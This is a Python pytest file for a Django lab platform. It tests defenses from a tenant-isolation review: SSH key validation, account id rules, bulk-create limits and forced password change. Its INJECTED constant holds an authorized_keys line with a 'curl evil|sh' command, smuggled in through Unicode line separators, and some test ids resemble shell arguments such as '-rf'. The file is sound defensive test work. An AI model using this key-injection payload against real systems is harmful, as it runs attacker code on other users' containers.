"""The lower items of the tenant-isolation review, each as an attacker or a careless
maintainer would try it: SSH key lines split by other line breaks, account ids that can
never get a container, an overlong bulk id, keeping the one-time password."""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from accounts.models import User
from accounts.services import user_create, users_create_bulk
from accounts.sshkeys import clean_ssh_public_keys
from containers.volumes import authorized_keys_text
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDzMAeSTYMMYsqxyBbWJwUCX8+EKnUEgG+zv9Bgv6vko"
INJECTED = 'command="curl evil|sh" ' + KEY
OTHER_LINE_BREAKS = ["\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.fixture
def maintainer(client):
    user = UserFactory(username="maint", is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


@pytest.mark.parametrize("separator", OTHER_LINE_BREAKS, ids=[hex(ord(c)) for c in OTHER_LINE_BREAKS])
def test_a_key_line_split_by_another_line_break_is_refused(separator):
    with pytest.raises(ValidationError, match="line break other than a new line"):
        clean_ssh_public_keys(f"{KEY} laptop{separator}{INJECTED}")


def test_a_key_stored_before_the_rule_never_becomes_two_authorized_keys_lines():
    user = UserFactory(ssh_public_keys=f"{KEY} laptop\u2028{INJECTED}")
    assert authorized_keys_text(user) == ""
    user.ssh_public_keys = f"{KEY} desktop\n{KEY} laptop\u2028{INJECTED}"
    assert authorized_keys_text(user) == f"{KEY} desktop\n"


def test_windows_line_ends_are_still_fine():
    assert clean_ssh_public_keys(f"{KEY} a\r\n{KEY} b\r\n") == f"{KEY} a\n{KEY} b"


def test_the_admin_user_form_validates_ssh_keys(client, maintainer):
    student = UserFactory()
    url = reverse("admin:accounts_user_change", args=[student.pk])
    form = client.get(url).context["adminform"].form
    data = {key: value for key, value in form.initial.items() if value is not None and key != "password"}
    data.update(
        {
            "ssh_public_keys": f"{KEY} a\x85{INJECTED}",
            "date_joined_0": "2026-01-01",
            "date_joined_1": "00:00:00",
        }
    )
    for many in ("groups", "user_permissions", "last_login"):
        data.pop(many, None)
    response = client.post(url, data)
    assert response.status_code == 200
    assert "line break other than a new line" in response.content.decode()
    student.refresh_from_db()
    assert student.ssh_public_keys == ""


@pytest.mark.parametrize("account_id", ["a+b", "mail@lab", "ünï", ".hidden", "-rf", "a b", "x" * 33])
def test_account_ids_that_can_never_get_a_container_are_refused_everywhere(client, maintainer, account_id):
    with pytest.raises(ValidationError):
        user_create(username=account_id)
    with pytest.raises(ValidationError):
        users_create_bulk(usernames=["fine01", account_id])
    response = client.post(
        reverse("admin:accounts_user_add"),
        {
            "username": account_id,
            "usable_password": "true",
            "password1": "q-w-e-r-t-y-1",
            "password2": "q-w-e-r-t-y-1",
        },
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["username"]
    assert not User.objects.exclude(pk=maintainer.pk).exists()


def test_ordinary_lab_ids_are_accepted():
    for account_id in ("m11007s05", "lab_user.2", "a-b"):
        user_create(username=account_id)


def test_a_bulk_id_over_150_characters_is_a_form_error_not_a_crash(client, maintainer):
    response = client.post(reverse("admin:accounts_user_bulk_create"), {"usernames": "ok1 " + "m" * 151})
    assert response.status_code == 200
    assert "longer than 32 characters" in str(response.context["form"].errors["usernames"])
    assert not User.objects.filter(username="ok1").exists()


def test_the_forced_change_refuses_keeping_the_one_time_password(client):
    user = UserFactory(must_change_password=True)  # its one-time password: correct-horse-battery
    client.force_login(user)
    response = client.post(
        reverse("password_change"),
        {
            "old_password": "correct-horse-battery",
            "new_password1": "correct-horse-battery",
            "new_password2": "correct-horse-battery",
        },
    )
    assert response.status_code == 200
    assert "must differ from the current" in response.content.decode()
    user.refresh_from_db()
    assert user.must_change_password
